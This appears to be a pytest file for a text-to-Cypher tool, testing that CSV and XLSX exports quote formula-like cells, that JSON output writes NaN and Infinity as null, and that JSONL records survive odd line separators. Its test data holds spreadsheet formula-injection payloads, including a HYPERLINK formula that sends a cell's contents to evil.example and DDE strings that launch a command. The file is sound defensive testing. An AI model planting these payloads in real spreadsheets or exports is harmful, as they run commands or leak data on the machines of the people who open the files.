"""What t2c writes holds hostile values as data (issue 36): spreadsheet cells as text, JSON without NaN,
JSONL records whole whatever line separators a query holds."""

from __future__ import annotations

import csv
import json
import math
import re

import openpyxl
import pytest
from click.testing import CliRunner

from t2c_lib.chat.export import ExportInfo, export_frame, read_export, result_frame
from t2c_lib.chat.log import InteractionLog, TurnLog, read_log
from t2c_lib.files.outputs import (
    JsonLineError,
    csv_cell,
    decode_json,
    formula_like,
    json_safe,
    jsonl_line,
    numbered_json_lines,
    to_json,
)
from t2c_lib.graph.base import QueryResult
from t2c_lib.runs.layout import Cell
from t2c_lib.runs.runlog import AttemptLog, read_jsonl, write_json
from t2c_lib.study.params import params_from_dict
from t2c_lib.study.runner import run_cell
from tests.helpers import FIXTURES, ROOT

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
PLAIN = ["MATCH (n) RETURN n", "", "Keanu Reeves", "'=already quoted", " =1+1", "-5", "+1.5e3", "-inf", "1-2"]


def _strict_json(text: str):
    """Parse as a strict JSON reader would: NaN and Infinity are not JSON."""

    def refuse(name: str):
        raise ValueError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


# --- one helper decides what is a formula ----------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert formula_like(text) and csv_cell(text) == ("'" + text).replace("\r", "\n")


@pytest.mark.parametrize("value", [*PLAIN, -5, -1.5, 0, None, True, float("nan")], ids=repr)
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_cell(value) is value


# --- t2c ask --export (and chat's export): CSV and XLSX ---------------------------------------------


def _hostile_result() -> QueryResult:
    rows = [[text, -5, -1.5, "-5"] for text in FORMULAS + PLAIN]
    return QueryResult(columns=["=cmd|' /C calc'!A0", "n", "x", "s"], rows=rows)


def _info() -> ExportInfo:
    return ExportInfo("q", "RETURN 1", 1, 3)


def test_exported_csv_cells_that_start_a_formula_begin_with_a_quote(tmp_path):
    result = _hostile_result()
    path, _ = export_frame(result_frame(result), tmp_path / "out.csv", _info())
    with path.open(encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["'=cmd|' /C calc'!A0", "n", "x", "s"]
    for (text, n, x, s), original in zip(rows, FORMULAS + PLAIN, strict=True):
        assert text == ("'" + original if original in FORMULAS else original).replace("\r", "\n")
        assert (n, x, s) == ("-5", "-1.5", "-5")  # a negative number stays a number
    assert not [cell for row in [header, *rows] for cell in row if formula_like(cell)]


def test_exported_xlsx_holds_no_formula_and_keeps_the_text_exactly(tmp_path):
    result = _hostile_result()
    path, _ = export_frame(result_frame(result), tmp_path / "out.xlsx", _info())
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A1"].value == "=cmd|' /C calc'!A0" and sheet["A1"].quotePrefix
    texts = [sheet.cell(row=i + 2, column=1) for i in range(len(FORMULAS + PLAIN))]
    assert [c.value or "" for c in texts] == [t.replace("\r", "\n") for t in FORMULAS + PLAIN]  # XML: CR reads as LF
    assert all(c.quotePrefix and c.data_type == "s" for c in texts[: len(FORMULAS)])
    numbers = [sheet.cell(row=i + 2, column=2) for i in range(len(FORMULAS))]
    assert all(c.value == -5 and c.data_type == "n" for c in numbers)
    assert read_export(path)["n"].tolist() == [-5] * len(FORMULAS + PLAIN)


def test_the_xlsx_file_itself_has_no_formula_element(tmp_path):
    import zipfile

    path, _ = export_frame(result_frame(_hostile_result()), tmp_path / "out.xlsx", _info())
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)


def test_a_carriage_return_inside_a_cell_does_not_split_the_row(tmp_path):
    result = QueryResult(columns=["q", "n"], rows=[["MATCH (n)\rRETURN n", 1], ["a\r\nb", 2], ["last", 3]])
    path, _ = export_frame(result_frame(result), tmp_path / "out.csv", _info())
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["q", "n"], ["MATCH (n)\nRETURN n", "1"], ["a\nb", "2"], ["last", "3"]]
    assert read_export(path)["n"].tolist() == [1, 2, 3]


# --- t2c score --output -----------------------------------------------------------------------------


def test_score_output_writes_formula_like_queries_as_text(tmp_path):
    from t2c_lib.cli.score import score_command

    pairs = tmp_path / "pairs.csv"
    with pairs.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["gold", "predicted", "@note"])
        writer.writerow(["MATCH (n) RETURN n", '=HYPERLINK("http://x","y")', "-1"])
        writer.writerow(["MATCH (n) RETURN n", "MATCH (n) RETURN n", "+cmd"])
    out = tmp_path / "scored.csv"
    result = CliRunner().invoke(score_command, [str(pairs), "--output", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert rows[0][:3] == ["gold", "predicted", "'@note"]
    assert rows[1][1] == '\'=HYPERLINK("http://x","y")' and rows[1][2] == "-1"
    assert rows[2][2] == "'+cmd"
    assert float(rows[2][rows[0].index("bleu")]) == 1.0  # scores stay numbers


DATA_WRITERS = {
    "t2c_lib/dataset_import/writer.py": "a dataset's input CSVs, read back by the loader value for value",
}
"""Modules that write input data, not reports: a formula-like value there is data (escaping it would change it)."""


def test_every_csv_and_xlsx_writer_goes_through_the_helper():
    """A module that writes a spreadsheet file imports t2c_lib.files.outputs (a new writer must too)."""
    writes = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|ExcelWriter\(")
    for path in sorted((ROOT / "t2c_lib").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if writes.search(text) and path.relative_to(ROOT).as_posix() not in DATA_WRITERS:
            assert "from t2c_lib.files.outputs import" in text, path.relative_to(ROOT)


def test_a_dataset_writer_keeps_every_value_exactly_a_carriage_return_too(tmp_path):
    """The data writer's rows read back as written: a lone CR stays inside its cell, `=1+2` stays `=1+2`."""
    from t2c_lib.dataset_import.writer import _csv

    rows = [["id", "text"], ["a", "x\ry"], ["b", "=1+2"], ["c", "line\nbreak"]]
    with _csv(tmp_path / "t.csv") as (writer, _):
        writer.writerows(rows)
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle)) == rows


# --- NaN never in JSON --------------------------------------------------------------------------------


def test_nan_and_infinity_are_written_as_null():
    value = {"a": math.nan, "b": [math.inf, -math.inf, 1.5], "c": (math.nan,), "d": {"e": -0.0}}
    assert _strict_json(to_json(value)) == {"a": None, "b": [None, None, 1.5], "c": [None], "d": {"e": -0.0}}
    assert json_safe(1.5) == 1.5 and to_json({"x": 0.1}) == json.dumps({"x": 0.1})


def test_db_query_json_prints_null_for_nan_and_infinity(tmp_path, monkeypatch):
    """`t2c db query --json` on the embedded store (0.0/0.0 is NaN there): strict JSON out."""
    from t2c_lib import config
    from t2c_lib.cli.db import db

    monkeypatch.setattr(config, "CACHE_DIR", tmp_path)
    query = "RETURN 0.0/0.0 AS x, 1.0/0.0 AS y, 1.5 AS z"
    result = CliRunner().invoke(db, ["query", "--dataset", str(FIXTURES / "tiny"), "--json", query])
    assert result.exit_code == 0, result.output
    assert _strict_json(result.output) == {"columns": ["x", "y", "z"], "rows": [[None, None, 1.5]]}


def test_run_files_hold_no_nan(tmp_path):
    write_json(tmp_path / "summary.json", {"mean": math.nan, "n": 0})
    assert _strict_json((tmp_path / "summary.json").read_text(encoding="utf-8")) == {"mean": None, "n": 0}
    log = AttemptLog(tmp_path / "cell")
    log.append_question({"question_id": "q1", "score": math.inf})
    assert _strict_json(log.questions_path.read_text(encoding="utf-8").strip()) == {"question_id": "q1", "score": None}


def test_no_output_module_calls_json_dumps_directly():
    """`--json`, summaries, manifests, sessions, logs, sidecars: all through `to_json` / `jsonl_line`."""
    for relative in (
        "cli/agent.py",
        "cli/db.py",
        "chat/export.py",
        "chat/log.py",
        "chat/session.py",
        "chat/evaluate.py",
        "runs/runlog.py",
        "study/screen.py",
    ):
        text = (ROOT / "t2c_lib" / relative).read_text(encoding="utf-8")
        assert not re.search(r"json\.dumps?\(", text), relative


# --- JSONL: split on \n only ---------------------------------------------------------------------------

SEPARATORS = "\u2028\u2029\x85\x0b\x0c\x1c\x1d\x1e\r"


def test_a_query_with_line_separators_reads_back_whole(tmp_path):
    query = f"MATCH (n) RETURN n // {SEPARATORS} end"
    log = AttemptLog(tmp_path)
    log.append_question({"question_id": "q1", "final_query": query})
    log.append_question({"question_id": "q2", "final_query": "RETURN 1"})
    assert [r["final_query"] for r in read_jsonl(log.questions_path)] == [query, "RETURN 1"]
    assert log.finished_ids() == {"q1", "q2"}
    assert log.questions_path.read_text(encoding="utf-8").count("\n") == 2
    assert len(log.questions_path.read_text(encoding="utf-8").splitlines()) == 2  # even a splitlines reader


def test_json_nested_past_the_recursion_limit_is_refused_as_not_json():
    with pytest.raises(json.JSONDecodeError, match="nested too deep"):
        decode_json("[" * 100_000)
    with pytest.raises(json.JSONDecodeError, match="nested too deep"):
        decode_json(b"{" + b'"a": {' * 100_000)
    assert decode_json('{"a": [1, 2]}') == {"a": [1, 2]}


def test_an_older_file_with_a_raw_u2028_still_reads_whole(tmp_path):
    path = tmp_path / "questions.jsonl"
    path.write_text(json.dumps({"question_id": "q1", "q": "a\u2028b"}, ensure_ascii=False) + "\n", encoding="utf-8")
    assert read_jsonl(path) == [{"question_id": "q1", "q": "a\u2028b"}]
    assert list(numbered_json_lines('"a\u2028b"\n\n"c"\n')) == [(1, "a\u2028b"), (3, "c")]
    with pytest.raises(JsonLineError, match="line 2: not JSON") as torn:
        list(numbered_json_lines('"a"\n{"cut'))
    assert torn.value.number == 2
    assert list(numbered_json_lines('"a"\n{"cut\n' + "[" * 100_000, skip_torn=True)) == [(1, "a")]
    assert jsonl_line({"q": "a\u2028b"}) == '{"q": "a\\u2028b"}\n'


def test_a_resumed_run_does_not_ask_a_question_whose_query_held_u2028_again(tiny_dataset, tmp_path):
    """The runner (real files, real resume) with a stand-in for the agent loop that records a U+2028 query."""
    params = params_from_dict({"run_id": "t"})
    cell = Cell("feedback", "Zero-Shot", "full_schema")
    calls: list[str] = []

    def solve_stand_in(item, on_attempt):
        calls.append(item.id)
        return {
            "status": "SUCCESS",
            "success": True,
            "kg_valid": True,
            "iterations": 1,
            "final_query": "MATCH (n) RETURN n\u2028// a model's comment",
            "error": None,
        }

    first = run_cell(cell, params, tiny_dataset.questions, solve_stand_in, tmp_path, progress=False)
    again = run_cell(cell, params, tiny_dataset.questions, solve_stand_in, tmp_path, progress=False)
    assert first.ran == len(tiny_dataset.questions) and again.ran == 0
    assert calls == [q.id for q in tiny_dataset.questions]


def test_the_chat_log_keeps_a_message_with_u2028_whole(tmp_path):
    log = InteractionLog(tmp_path)
    message = "how many\u2028courses?\u2029\x85"
    log.append(TurnLog("s", 1, message, "EXECUTE_QUERY", "rule", "ok", query="RETURN 1\u2028"))
    log.append(TurnLog("s", 2, "next", "ACKNOWLEDGE", "rule", "ok"))
    records = read_log(log.path)
    assert [r["message"] for r in records] == [message, "next"]
    assert records[0]["query"] == "RETURN 1\u2028"


def test_jsonl_readers_do_not_use_splitlines():
    for relative in ("runs/runlog.py", "chat/log.py"):
        assert ".splitlines()" not in (ROOT / "t2c_lib" / relative).read_text(encoding="utf-8"), relative


def test_a_table_without_hostile_text_is_written_byte_for_byte_as_before():
    import pandas as pd

    from t2c_lib.files.outputs import csv_frame

    frame = pd.DataFrame(
        {
            "configuration": ["Zero-Shot_Full", "CoT_Only-Paths", None],
            "delta": [-0.125, 0.1 + 0.2, float("nan")],
            "mixed": [1.0, "x", -2.5],  # object column with floats: float_format does not apply to it
            "n": [-3, 0, 52],
            "flag": [True, False, True],
        }
    )
    options = {"index": False, "float_format": "%.10g", "lineterminator": "\n"}
    assert csv_frame(frame).to_csv(**options) == frame.to_csv(**options)
    hostile = frame.assign(configuration=["=1+1", "ok", None])
    assert csv_frame(hostile).to_csv(**options) == frame.assign(configuration=["'=1+1", "ok", None]).to_csv(**options)
